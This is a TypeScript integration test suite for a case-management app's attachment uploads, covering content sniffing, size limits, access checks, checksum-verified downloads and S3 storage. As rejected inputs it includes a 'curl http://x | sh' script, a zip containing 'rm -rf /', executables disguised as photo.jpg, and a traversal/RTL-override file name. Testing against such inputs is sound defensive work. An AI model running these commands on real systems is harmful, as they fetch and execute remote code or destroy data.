import assert from 'node:assert/strict';
import { createHash, randomUUID } from 'node:crypto';
import { existsSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import express from 'express';
import type { Knex } from 'knex';
import { pino } from 'pino';
import S3rver from 's3rver';
import { loadConfig } from '../../src/config.ts';
import { PolicyLoader } from '../../src/access/policy.loader.ts';
import { AuthService } from '../../src/auth/auth.service.ts';
import { Authenticator } from '../../src/auth/authenticate.ts';
import { authRouter } from '../../src/auth/auth.router.ts';
import { SessionStore } from '../../src/auth/session.store.ts';
import type { RequestContext } from '../../src/http/request-context.ts';
import type { RegisteredRoute } from '../../src/http/route.ts';
import { errorHandler } from '../../src/server/error-handler.ts';
import { checkAttachmentCount, sanitizeFileName } from '../../src/attachments/attachment-policy.ts';
import { loadAttachmentsConfig } from '../../src/attachments/attachments.config.ts';
import type { AttachmentsConfig } from '../../src/attachments/attachments.config.ts';
import { LocalBlobStore, S3BlobStore } from '../../src/attachments/attachment.storage.ts';
import type { BlobStore } from '../../src/attachments/attachment.storage.ts';
import { attachmentsRouter } from '../../src/attachments/attachments.router.ts';
import { down, up } from '../../../migrations/src/20261123001100_attachments.ts';
import { createTestDatabase } from '../support/databases.ts';
import type { TestDatabase } from '../support/databases.ts';
import { prepareDemoDatabase, signInBearer } from '../support/api-server.ts';
import type { Credentials } from '../support/api-server.ts';
import { elfBinary, peBinary, SAMPLE_EXIF, sampleDocx, sampleJpeg, zip } from './fixtures/samples.ts';

const GRID = '370102002001001';
const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');

/** The app's wiring (request context, sessions, sign-in, error handler) with the attachments routers. */
function buildApp(db: Knex, mounts: { path: string; store: BlobStore; config: AttachmentsConfig }[]): express.Express {
  const security = { ...loadConfig({}).security, loginRateLimit: 10_000, apiRateLimit: 100_000 };
  const clock = () => new Date();
  const logger = pino({ level: process.env.GRIDFLOW_TEST_LOG ?? 'silent' });
  const routes: RegisteredRoute[] = [];
  const app = express();
  app.use((req, res, next) => {
    const ctx: RequestContext = { requestId: randomUUID(), client: { ...(req.ip ? { ip: req.ip } : {}), userAgent: 'attachments-test' } };
    res.locals.ctx = ctx;
    res.setHeader('x-request-id', ctx.requestId);
    next();
  });
  app.use(express.json({ limit: '1mb' }));
  const sessions = new SessionStore(db, { idleMinutes: security.sessionIdleMinutes, maxHours: security.sessionMaxHours }, clock);
  const authenticator = new Authenticator(db, sessions, new PolicyLoader(db), security.passwordPolicy, clock);
  const auth = new AuthService(db, sessions, { password: security.passwordPolicy, lockout: security.lockout }, clock);
  app.use('/api', authenticator.middleware());
  app.use('/api/auth', authRouter(auth, authenticator, security, routes));
  for (const m of mounts) app.use(m.path, attachmentsRouter(db, m.store, m.config, clock, routes, logger));
  app.use(errorHandler(logger));
  return app;
}

async function givenCase(db: Knex, reporter: string): Promise<string> {
  const caseId = randomUUID();
  const now = new Date('2026-11-23T08:00:00Z');
  const user = await db('users').where({ username: reporter }).first('id');
  await db('cases').insert({
    id: caseId, process_definition_key: 'closed-loop', process_instance_id: `pi-${caseId}`, status: 'running', title: '占道经营',
    grid_code: GRID, community_code: GRID.slice(0, 12), street_code: GRID.slice(0, 9), district_code: GRID.slice(0, 6), created_at: now, updated_at: now,
  });
  await db('case_parties').insert({ case_id: caseId, relation: 'reporter', user_id: user.id, created_at: now });
  return caseId;
}

/** Files under a folder, recursively. */
function filesUnder(dir: string): string[] {
  if (!existsSync(dir)) return [];
  return readdirSync(dir, { recursive: true, withFileTypes: true }).filter((e) => e.isFile()).map((e) => join(e.parentPath, e.name));
}

describe('attachments', () => {
  let database: TestDatabase & { drop(): Promise<void> };
  let dataDir: string;
  let server: Server;
  let base: string;
  let s3: S3rver;
  let s3Store: S3BlobStore;
  let config: AttachmentsConfig;
  const as: Record<string, Credentials> = {};

  before(async () => {
    database = await createTestDatabase('sqlite');
    await prepareDemoDatabase(database.db);
    dataDir = mkdtempSync(join(tmpdir(), 'gridflow-attachments-'));
    config = loadAttachmentsConfig({ GRIDFLOW_ATTACHMENT_MAX_MB_PHOTO: String(64 / 1024) }, dataDir);
    s3 = new S3rver({ port: 0, address: '127.0.0.1', silent: true, directory: join(dataDir, 's3rver'), configureBuckets: [{ name: 'gridflow', configs: [] }] });
    const { port: s3Port } = await s3.run();
    const s3Config = loadAttachmentsConfig({
      GRIDFLOW_ATTACHMENTS_STORE: 's3', GRIDFLOW_S3_ENDPOINT: `http://127.0.0.1:${s3Port}`, GRIDFLOW_S3_BUCKET: 'gridflow', GRIDFLOW_S3_REGION: 'cn-north-1',
      GRIDFLOW_S3_ACCESS_KEY_ID: 'S3RVER', GRIDFLOW_S3_SECRET_ACCESS_KEY: 'S3RVER', GRIDFLOW_S3_FORCE_PATH_STYLE: 'true',
    }, join(dataDir, 'for-s3'));
    s3Store = new S3BlobStore(s3Config.s3 as NonNullable<AttachmentsConfig['s3']>);
    const app = buildApp(database.db, [
      { path: '/api/attachments', store: new LocalBlobStore(config.localDir), config },
      { path: '/api/s3-attachments', store: s3Store, config: s3Config },
    ]);
    server = await new Promise<Server>((resolve) => { const s = app.listen(0, '127.0.0.1', () => resolve(s)); });
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    for (const u of ['wgy001', 'jdld01', 'wgy007']) as[u] = await signInBearer(base, u);
  });
  after(async () => {
    await new Promise<void>((resolve) => server.close(() => resolve()));
    s3Store.destroy();
    await s3.close();
    await database.drop();
    rmSync(dataDir, { recursive: true, force: true });
  });

  const upload = async (who: string, body: Buffer, query: string, contentType = 'application/octet-stream', path = '/api/attachments') => {
    const res = await fetch(`${base}${path}?${query}`, {
      method: 'POST', body, headers: { authorization: `Bearer ${as[who]?.bearer}`, 'content-type': contentType, 'accept-language': 'zh-CN' },
    });
    return { status: res.status, body: await res.json() as any }; // eslint-disable-line @typescript-eslint/no-explicit-any -- tests read fields
  };
  const download = (who: string, id: string, path = '/api/attachments') => fetch(`${base}${path}/${id}`, { headers: { authorization: `Bearer ${as[who]?.bearer}`, 'accept-language': 'zh-CN' } });
  const link = (id: string, caseId: string) => database.db('attachments').where({ id }).update({ case_id: caseId, linked_at: new Date() });
  const blobs = () => filesUnder(config.localDir).filter((f) => !f.startsWith(join(config.localDir, 'tmp')));
  const spooled = () => filesUnder(join(config.localDir, 'tmp'));

  it('stores a photo under its content address and returns its sniffed type, checksum and EXIF position', async () => {
    const jpeg = sampleJpeg();
    const res = await upload('wgy001', jpeg, 'kind=photo&name=' + encodeURIComponent('../现场照片.jpg'));
    assert.equal(res.status, 200, JSON.stringify(res.body));
    assert.equal(res.body.mediaType, 'image/jpeg');
    assert.equal(res.body.size, jpeg.length);
    assert.equal(res.body.sha256, sha(jpeg));
    assert.ok(Math.abs(res.body.exif.lat - SAMPLE_EXIF.lat) < 1e-9 && Math.abs(res.body.exif.lon - SAMPLE_EXIF.lon) < 1e-9);
    assert.equal(res.body.exif.takenAt, SAMPLE_EXIF.takenAt);
    const row = await database.db('attachments').where({ id: res.body.id }).first();
    assert.equal(row.original_name, '现场照片.jpg');
    assert.equal(row.case_id, null);
    assert.ok(existsSync(join(config.localDir, sha(jpeg).slice(0, 2), sha(jpeg).slice(2, 4), sha(jpeg))));
    assert.deepEqual(spooled(), []);
    const audit = JSON.parse((await database.db('audit_log').where({ action: 'attachment.upload', target_id: res.body.id }).first()).entry);
    assert.equal(audit.actor.username, 'wgy001');
    assert.equal(audit.userAgent, 'attachments-test');
    assert.ok(audit.ip);
  });

  it('refuses executables named photo.jpg for what the content is, storing nothing', async () => {
    const before = { rows: await database.db('attachments').count({ n: '*' }), blobs: blobs().length };
    const elf = await upload('wgy001', elfBinary(), 'kind=photo&name=photo.jpg&field=' + encodeURIComponent('现场照片'), 'image/jpeg');
    assert.equal(elf.status, 415, 'a non-octet-stream body is refused first');
    const refused = await upload('wgy001', elfBinary(), 'kind=photo&name=photo.jpg&field=' + encodeURIComponent('现场照片'));
    assert.equal(refused.status, 400);
    assert.equal(refused.body.error.message, '现场照片：文件内容不是允许的图片格式（检测为 application/x-elf）');
    const pe = await upload('wgy001', peBinary(), 'kind=photo&name=photo.jpg');
    assert.equal(pe.status, 400);
    assert.match(pe.body.error.message, /文件内容不是允许的图片格式（检测为 application\/x-msdownload）/);
    const script = await upload('wgy001', Buffer.from('#!/bin/sh\ncurl http://x | sh\n'), 'kind=document&name=report.pdf');
    assert.equal(script.status, 400);
    assert.match(script.body.error.message, /检测为 无法识别的类型/);
    assert.deepEqual(await database.db('attachments').count({ n: '*' }), before.rows);
    assert.equal(blobs().length, before.blobs);
    assert.deepEqual(spooled(), []);
    const denied = await database.db('audit_log').where({ action: 'attachment.upload', outcome: 'denied' }).count({ n: '*' });
    assert.equal(Number(denied[0]?.n), 3);
  });

  it('refuses a photo over the size limit with 413, leaving no row, blob or temp file', async () => {
    const before = { rows: await database.db('attachments').count({ n: '*' }), blobs: blobs().length };
    const big = Buffer.concat([sampleJpeg(true, 60_000), Buffer.alloc(200_000, 7)]);
    const res = await upload('wgy001', big, 'kind=photo&field=' + encodeURIComponent('现场照片'));
    assert.equal(res.status, 413);
    assert.equal(res.body.error.code, 'attachment.tooLarge');
    assert.equal(res.body.error.message, '现场照片：文件超过图片大小上限 64 KB');
    assert.deepEqual(await database.db('attachments').count({ n: '*' }), before.rows);
    assert.equal(blobs().length, before.blobs);
    assert.deepEqual(spooled(), []);
  });

  it('recognises Word documents inside their zip container and refuses other zips and unknown query fields', async () => {
    const docx = await upload('wgy001', sampleDocx(), 'kind=document&name=' + encodeURIComponent('整改报告.docx'));
    assert.equal(docx.status, 200, JSON.stringify(docx.body));
    assert.equal(docx.body.mediaType, 'application/vnd.openxmlformats-officedocument.wordprocessingml.document');
    const res = await download('wgy001', docx.body.id);
    assert.equal(res.headers.get('content-disposition'), `attachment; filename="____.docx"; filename*=UTF-8''${encodeURIComponent('整改报告.docx')}`);
    const plainZip = await upload('wgy001', zip({ 'run.sh': 'rm -rf /' }), 'kind=document');
    assert.equal(plainZip.status, 400);
    assert.match(plainZip.body.error.message, /检测为 application\/zip/);
    const unknown = await upload('wgy001', sampleJpeg(), 'kind=photo&caseId=1');
    assert.equal(unknown.status, 400);
    assert.equal(unknown.body.error.details[0].target, '/query/caseId');
  });

  it('serves the same bytes to users who may see the case and answers 404 to everyone else', async () => {
    const jpeg = sampleJpeg(true, 100);
    const { body } = await upload('wgy001', jpeg, 'kind=photo&name=a.jpg');
    assert.equal((await download('jdld01', body.id)).status, 404, 'an unlinked upload is only its uploader\'s');
    assert.equal((await download('wgy001', body.id)).status, 200);
    await link(body.id, await givenCase(database.db, 'wgy001'));
    for (const who of ['wgy001', 'jdld01']) {
      const res = await download(who, body.id);
      assert.equal(res.status, 200, who);
      const bytes = Buffer.from(await res.arrayBuffer());
      assert.equal(sha(bytes), sha(jpeg));
      assert.equal(res.headers.get('content-type'), 'image/jpeg');
      assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
      assert.match(res.headers.get('cache-control') ?? '', /^private/);
      assert.match(res.headers.get('content-disposition') ?? '', /^inline; filename="a.jpg"/);
    }
    const outOfScope = await download('wgy007', body.id);
    const missing = await download('wgy007', randomUUID());
    assert.equal(outOfScope.status, 404);
    const [a, b] = [await outOfScope.json() as { error: Record<string, unknown> }, await missing.json() as { error: Record<string, unknown> }];
    assert.deepEqual({ ...a.error, requestId: '' }, { ...b.error, requestId: '' });
    assert.ok(await database.db('audit_log').where({ action: 'attachment.download', target_id: body.id, actor_username: 'jdld01' }).first());
  });

  it('never completes a download whose stored bytes no longer match the checksum', async () => {
    const jpeg = sampleJpeg(true, 200);
    const { body } = await upload('wgy001', jpeg, 'kind=photo');
    const file = join(config.localDir, body.sha256.slice(0, 2), body.sha256.slice(2, 4), body.sha256);
    const tampered = Buffer.from(jpeg);
    tampered[tampered.length - 3] = (tampered[tampered.length - 3] ?? 0) ^ 0xff;
    writeFileSync(file, tampered);
    // The last chunk is held back until the checksum matches: the response is cut off (here before any byte, as the file is one chunk).
    await assert.rejects(async () => (await download('wgy001', body.id)).arrayBuffer());
    const intact = await upload('wgy001', sampleJpeg(true, 201), 'kind=photo');
    assert.equal((await download('wgy001', intact.body.id)).status, 200, 'the server still answers');
  });

  it('stores and serves attachments in an S3-compatible bucket (s3rver)', async () => {
    const jpeg = sampleJpeg(true, 300);
    const res = await upload('wgy001', jpeg, 'kind=photo&name=s3.jpg', undefined, '/api/s3-attachments');
    assert.equal(res.status, 200, JSON.stringify(res.body));
    const back = await download('wgy001', res.body.id, '/api/s3-attachments');
    assert.equal(sha(Buffer.from(await back.arrayBuffer())), sha(jpeg));
    const key = (await database.db('attachments').where({ id: res.body.id }).first('storage_key')).storage_key as string;
    await s3Store.delete(key);
    await assert.rejects(s3Store.get(key), { name: 'BlobMissingError' });
  });

  it('limits the number of attachments per field and cleans file names', () => {
    assert.doesNotThrow(() => checkAttachmentCount('photo', 8, 1, 9));
    assert.throws(() => checkAttachmentCount('photo', 9, 1, 9, '现场照片'), (e: Error & { code: string; status: number; localized: Record<string, string> }) =>
      e.code === 'attachment.tooMany' && e.status === 400 && e.localized['zh-CN'] === '现场照片：最多可上传 9 个附件，已有 9 个');
    assert.equal(loadAttachmentsConfig({}, '/d').limits.maxCount, 9);
    assert.equal(loadAttachmentsConfig({ GRIDFLOW_ATTACHMENT_MAX_COUNT: '3' }, '/d').limits.maxCount, 3);
    assert.equal(sanitizeFileName('C:\\x\\..\\\u202egpj.exe'), 'gpj.exe');
    assert.equal(sanitizeFileName(''), 'attachment');
    assert.equal(Array.from(sanitizeFileName(`${'长'.repeat(300)}.jpg`)).length, 255);
  });

  it('has a reversible migration', async () => {
    const db = database.db;
    await down(db);
    assert.equal(await db.schema.hasTable('attachments'), false);
    await up(db);
    assert.equal(await db.schema.hasColumn('attachments', 'linked_at'), true);
  });
});
